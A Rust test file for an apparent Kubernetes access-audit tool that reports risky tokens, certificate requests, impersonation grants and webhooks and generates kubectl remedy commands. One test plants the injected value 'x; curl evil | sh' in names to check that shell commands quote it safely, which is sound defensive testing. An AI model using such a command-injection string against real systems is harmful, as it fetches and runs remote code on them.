use std::collections::BTreeMap;

use jiff::Timestamp;
use serde_json::{Value, json};

use super::facts::RequestState;
use super::*;
use crate::core::access::scan::ClusterScan;
use crate::core::credential::certificate::Subject;
use crate::core::credential::static_token::{AboutTime, LastUse, StaticToken, StaticTokenKind};
use crate::core::fixtures::at;
use crate::core::identity::evidence::ClusterSources;
use crate::core::identity::verdict::ClusterDirectory;
use crate::core::ids::Uid;
use crate::core::rbac::Roles;
use crate::core::rbac::binding_object::{BindingObject, BindingRef};
use crate::core::rbac::fixtures::{inventory, roles};
use crate::core::rbac::grants::Grants;
use crate::core::rbac::mapping::{MappedIdentity, Mapping, MappingOrigin};
use crate::core::rbac::reach::Discovered;
use crate::core::rbac::user_info::of_identity;
use crate::core::revocation::input::RoleThen;

const UID: &str = "200000000000000103";

/// What a cluster shows, to be changed for a case.
struct Shown {
    scan: ClusterScan,
    roles: Roles,
    tokens: Vec<StaticToken>,
    requests: Vec<CertificateRequest>,
    aggregated: Vec<AggregatedRole>,
    webhooks: Vec<Webhook>,
    policies: Vec<AdmissionPolicy>,
    services: Vec<ApiService>,
    changed: BTreeMap<BindingRef, Timestamp>,
    minor: Option<u32>,
}

impl Shown {
    fn new(bindings: &[(&str, &str, &str, Value)], rules: &[(&str, &str, Value)], mappings: Vec<Mapping>) -> Self {
        let grants = Grants::extract(inventory(bindings), mappings);
        Self {
            scan: ClusterScan::new(None, grants, ClusterDirectory::new(ClusterSources::not_asked())),
            roles: roles(rules),
            tokens: Vec::new(),
            requests: Vec::new(),
            aggregated: Vec::new(),
            webhooks: Vec::new(),
            policies: Vec::new(),
            services: Vec::new(),
            changed: BTreeMap::new(),
            minor: Some(36),
        }
    }

    fn facts(&self) -> ClusterFacts<'_> {
        ClusterFacts {
            scan: &self.scan,
            roles: &self.roles,
            discovered: Discovered { minor_version: self.minor },
            tokens: &self.tokens,
            requests: &self.requests,
            aggregated: &self.aggregated,
            webhooks: &self.webhooks,
            policies: &self.policies,
            services: &self.services,
            changed: &self.changed,
            now: at("2026-11-29T12:00:00Z"),
        }
    }

    fn whose(&self) -> Whose {
        let users = of_identity(&Uid::parse(UID).unwrap(), &self.scan.grants, None, &[]);
        Whose { users, fingerprint: Some("ab12".to_owned()) }
    }

    /// Each finding in a line: method, object, where it leads.
    fn found(&self, whose: &Whose) -> Vec<String> {
        lines(&findings(&self.facts(), whose, &RightsThen::default(), None))
    }
}

fn lines(found: &[Finding]) -> Vec<String> {
    found.iter().map(|one| format!("{:?} {:?} {} -> {}", one.certainty, one.method, one.object, one.leads_to)).collect()
}

fn user(name: &str) -> Value {
    json!([{"kind": "User", "name": name}])
}

fn rule(verbs: &[&str], group: &str, resources: &[&str]) -> Value {
    json!([{"verbs": verbs, "apiGroups": [group], "resources": resources}])
}

fn token(namespace: &str, name: &str) -> StaticToken {
    let now = at("2026-11-29T12:00:00Z");
    StaticToken {
        kind: StaticTokenKind::ServiceAccount,
        namespace: namespace.to_owned(),
        name: name.to_owned(),
        keys: 3,
        created: AboutTime::from_age("2d", now),
        last_use: LastUse::Recent,
        is_ended: false,
    }
}

#[test]
fn of_an_identity_only_the_static_tokens_count_that_it_could_read() {
    let mut one = rule(&["list"], "", &["secrets"]);
    one[0]["resourceNames"] = json!(["named"]);
    let mut shown = Shown::new(
        &[
            ("shop", "read", "ClusterRole/read", user(UID)),
            ("ci", "one", "ClusterRole/one", user(&format!("{UID}-1700"))),
            ("ops", "other", "ClusterRole/read", user("bo")),
        ],
        &[("", "read", rule(&["watch"], "", &["secrets"])), ("", "one", one)],
        Vec::new(),
    );
    let ended = StaticToken { is_ended: true, ..token("shop", "ended") };
    let bootstrap =
        StaticToken { kind: StaticTokenKind::Bootstrap, last_use: LastUse::Unread, ..token("kube-system", "b") };
    shown.tokens =
        vec![token("shop", "a"), ended, token("ci", "named"), token("ci", "unnamed"), token("ops", "c"), bootstrap];
    let secrets = |found: Vec<String>| -> Vec<String> {
        found.into_iter().filter_map(|line| Some(line.split_once("Secret/")?.1.to_owned())).collect()
    };
    assert_eq!(
        secrets(shown.found(&shown.whose())),
        ["ci/named -> a ServiceAccount of namespace ci", "shop/a -> a ServiceAccount of namespace shop",]
    );
    assert_eq!(secrets(shown.found(&Whose::default())).len(), 5, "without an identity all but the ended one");
}

#[test]
fn a_static_token_is_ended_by_a_label_where_the_api_server_knows_it() {
    let mut shown = Shown::new(&[], &[], Vec::new());
    shown.tokens = vec![token("shop", "a")];
    let remedy = |shown: &Shown| {
        let found = findings(&shown.facts(), &Whose::default(), &RightsThen::default(), None);
        (found[0].remedy.command.clone().unwrap(), found[0].remedy.undo)
    };
    let label = "kubectl label secret -n shop a kubernetes.io/legacy-token-invalid-since=2026-11-29";
    assert_eq!(remedy(&shown), (label.to_owned(), Undo::Yes));
    shown.minor = Some(28);
    assert_eq!(remedy(&shown), ("kubectl delete secret -n shop a".to_owned(), Undo::No));
}

#[test]
fn service_accounts_are_found_by_the_rights_of_before() {
    let issued = |mut found: Vec<String>| {
        found.retain(|line| line.contains("IssuedToken"));
        found
    };
    let shown = Shown::new(
        &[("shop", "token", "ClusterRole/token", user(UID))],
        &[(
            "",
            "token",
            json!([{
                "verbs": ["create"], "apiGroups": [""], "resources": ["serviceaccounts/token"], "resourceNames": ["robot"],
            }]),
        )],
        Vec::new(),
    );
    assert_eq!(
        issued(shown.found(&shown.whose())),
        ["Exact IssuedToken ServiceAccount/shop/robot -> ServiceAccount shop/robot",]
    );
    let object: BindingObject = serde_json::from_value(json!({
        "kind": "RoleBinding", "metadata": {"name": "pods", "namespace": "ci"}, "subjects": user(UID),
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "pods"},
    }))
    .unwrap();
    let facts = serde_json::from_value(rule(&["create"], "", &["pods"])).unwrap();
    let role = Some(crate::core::rbac::RoleFacts { uid: String::new(), rules: facts });
    let record = [RoleThen { binding: object.reference(), role, namespace_uid: None }];
    let then = RightsThen::of_record([&object], &record);
    assert!(then.unknown.is_empty());
    assert_eq!(
        issued(lines(&findings(&shown.facts(), &shown.whose(), &then, None))),
        [
            "Exact IssuedToken ServiceAccount/shop/robot -> ServiceAccount shop/robot",
            "Depends IssuedToken ServiceAccount/ci/* -> any ServiceAccount of namespace ci",
        ]
    );
    let gone = RightsThen::of_record([&object], &[]);
    assert_eq!(gone.unknown, ["what ClusterRole/pods of RoleBinding/ci/pods allowed: the role was gone"]);
}

fn request(name: &str, requester: &str, common_name: &str) -> CertificateRequest {
    CertificateRequest {
        name: name.to_owned(),
        created: Some(at("2026-11-29T10:00:00Z")),
        requester: requester.to_owned(),
        credential_id: None,
        signer: "kubernetes.io/kube-apiserver-client".to_owned(),
        subject: Some(Subject { common_name: Some(common_name.to_owned()), organizations: vec!["dev".to_owned()] }),
        state: RequestState::Issued,
    }
}

#[test]
fn requests_are_an_identitys_by_requester_credential_or_name() {
    let mut shown = Shown::new(&[], &[], Vec::new());
    let credential = Some("X509SHA256=ab12".to_owned());
    shown.requests = vec![
        request("a", UID, "x"),
        request("b", "bo", UID),
        CertificateRequest { credential_id: credential, ..request("c", "bo", "y") },
        request("d", "bo", "z"),
        CertificateRequest { state: RequestState::Ended, ..request("e", UID, "x") },
        CertificateRequest { signer: "kubernetes.io/kubelet-serving".to_owned(), ..request("f", UID, "x") },
        CertificateRequest { state: RequestState::Pending, ..request("g", UID, "x") },
        request("h", "system:node:n1", "system:node:n1"),
    ];
    let names = |found: Vec<String>| -> Vec<String> {
        found.iter().map(|line| line.split(['/', ' ']).nth(4).unwrap().to_owned()).collect()
    };
    assert_eq!(names(shown.found(&shown.whose())), ["a", "b", "c", "g"]);
    assert_eq!(names(shown.found(&Whose::default())), ["a", "b", "c", "d", "g"]);
}

#[test]
fn grants_that_hardly_anybody_looks_for_are_found() {
    let group = |name: &str| json!([{"kind": "Group", "name": name}]);
    let mut shown = Shown::new(
        &[
            ("", "spelled", "ClusterRole/view", user("system:serviceaccount:ci:robot")),
            ("shop", "all", "ClusterRole/view", group("system:serviceaccounts")),
            ("", "of-one", "ClusterRole/view", group("system:serviceaccounts:ci")),
            ("", "like", "ClusterRole/view", group("system:serviceaccountsx")),
            ("", "gone", "ClusterRole/view", user(UID)),
            ("", "bo", "ClusterRole/view", user("bo")),
            (
                "",
                "system:service-account-issuer-discovery",
                "ClusterRole/system:service-account-issuer-discovery",
                group("system:serviceaccounts"),
            ),
        ],
        &[("", "view", rule(&["get"], "", &["pods"]))],
        Vec::new(),
    );
    let found = shown.found(&Whose::default());
    assert_eq!(
        found,
        [
            "Exact AccountAsUser ClusterRoleBinding/-/spelled -> ClusterRole/view for User system:serviceaccount:ci:robot",
            "Exact AllAccounts ClusterRoleBinding/-/of-one -> ClusterRole/view for Group system:serviceaccounts:ci",
            "Exact AllAccounts RoleBinding/shop/all -> ClusterRole/view for Group system:serviceaccounts",
            "Exact UnknownIdentity ClusterRoleBinding/-/gone -> ClusterRole/view for User 200000000000000103, whose state is Unknown",
        ]
    );
    assert_eq!(shown.scan.grants.inventory().bindings().iter().filter(|binding| is_candidate(binding)).count(), 4);
    let reference = shown.scan.grants.inventory().bindings()[0].reference();
    shown.changed.insert(reference, at("2026-11-28T00:00:00Z"));
    let since = |text: &str| {
        let found = findings(&shown.facts(), &Whose::default(), &RightsThen::default(), Some(at(text)));
        found.len()
    };
    assert_eq!(since("2026-11-27T00:00:00Z"), 4, "a time that isn't known keeps its row");
}

#[test]
fn rights_that_lead_on_are_reported_of_others_than_the_systems_own() {
    let shown = Shown::new(
        &[
            ("", "ann", "ClusterRole/impersonate", user("ann")),
            (
                "kube-system",
                "own",
                "ClusterRole/token",
                json!([{"kind": "ServiceAccount", "name": "x", "namespace": "kube-system"}]),
            ),
            ("shop", "bo", "ClusterRole/token", user("bo")),
            ("", "sys", "ClusterRole/impersonate", user("system:kube-scheduler")),
            ("", "admin", "ClusterRole/all", user("root")),
            ("", "read", "ClusterRole/read", user("carl")),
        ],
        &[
            ("", "impersonate", rule(&["impersonate"], "", &["users", "groups"])),
            (
                "",
                "token",
                json!([{
                    "verbs": ["create"], "apiGroups": [""], "resources": ["serviceaccounts/token"], "resourceNames": ["robot"],
                }]),
            ),
            ("", "all", rule(&["*"], "*", &["*"])),
            ("", "read", rule(&["get"], "", &["pods"])),
        ],
        Vec::new(),
    );
    assert_eq!(
        shown.found(&Whose::default()),
        [
            "Exact Impersonate ClusterRoleBinding/-/ann -> member of system:masters for User ann",
            "Exact IssueTokens RoleBinding/shop/bo -> ServiceAccount/shop/robot for User bo",
        ]
    );
}

#[test]
fn what_stands_beside_rbac_is_reported() {
    let mapping = Mapping {
        origin: MappingOrigin::Object,
        name: "carl".to_owned(),
        identity: MappedIdentity::Arn("acs:ram::1000000000000001:user/carl".to_owned()),
        uid: None,
        account: None,
        username: "carl".to_owned(),
        groups: vec!["dev".to_owned()],
        created: None,
    };
    let mut shown = Shown::new(&[], &[], vec![mapping]);
    let created = Some(at("2026-11-01T00:00:00Z"));
    shown.aggregated = ["extra", "system:aggregate-to-view"]
        .map(|name| AggregatedRole { name: name.to_owned(), into: "view", created })
        .into();
    shown.webhooks = vec![Webhook {
        kind: WebhookKind::Mutating,
        configuration: "w".to_owned(),
        name: "w.example.com".to_owned(),
        host: "example.com".to_owned(),
        created,
    }];
    shown.policies = vec![AdmissionPolicy { name: "p".to_owned(), created }];
    let service = ServiceRef { namespace: "ops".to_owned(), name: "metrics".to_owned() };
    shown.services = vec![ApiService { name: "v1.x".to_owned(), service, created }];
    assert_eq!(
        shown.found(&Whose::default()),
        [
            "Exact AggregatedRole ClusterRole/-/extra -> everyone who holds view",
            "Exact Mapping RAMIdentityMapping/-/carl -> User carl in groups dev for acs:ram::1000000000000001:user/carl",
            "Depends Webhook MutatingWebhookConfiguration/-/w -> example.com outside the cluster, which changes what others write (w.example.com)",
            "Depends AdmissionPolicy MutatingAdmissionPolicy/-/p -> a change of what others write",
            "Depends ApiService APIService/-/v1.x -> Service ops/metrics, which sees who calls this part of the API",
        ]
    );
    let later = findings(&shown.facts(), &Whose::default(), &RightsThen::default(), Some(at("2026-11-02T00:00:00Z")));
    assert_eq!(lines(&later).len(), 1, "what was there before is left out, what has no time is not");
}

/// Names of bindings, of ServiceAccounts in roles and of certificates are whatever their authors want.
#[test]
fn a_name_in_a_command_is_one_word_to_a_shell() {
    let hostile = "x; curl evil | sh";
    let token = json!([{
        "verbs": ["create"], "apiGroups": [""], "resources": ["serviceaccounts/token"], "resourceNames": [hostile],
    }]);
    let bindings = [
        ("shop", hostile, "ClusterRole/token", user(UID)),
        ("", hostile, "ClusterRole/view", user("system:serviceaccount:ci:robot")),
    ];
    let rules = [("", "token", token), ("", "view", rule(&["get"], "", &["pods"]))];
    let mut shown = Shown::new(&bindings, &rules, Vec::new());
    shown.requests = vec![request("a", "bo", hostile)];
    let found = findings(&shown.facts(), &Whose::default(), &RightsThen::default(), None);
    let found = found.into_iter().chain(findings(&shown.facts(), &shown.whose(), &RightsThen::default(), None));
    let commands: Vec<String> =
        found.filter_map(|found| found.remedy.command).filter(|one| one.contains(hostile)).collect();
    assert!(commands.len() >= 4, "{commands:#?}");
    for command in commands {
        let outside: String = command.split('\'').step_by(2).collect();
        assert!(!outside.contains([';', '|']), "{command}");
    }
}
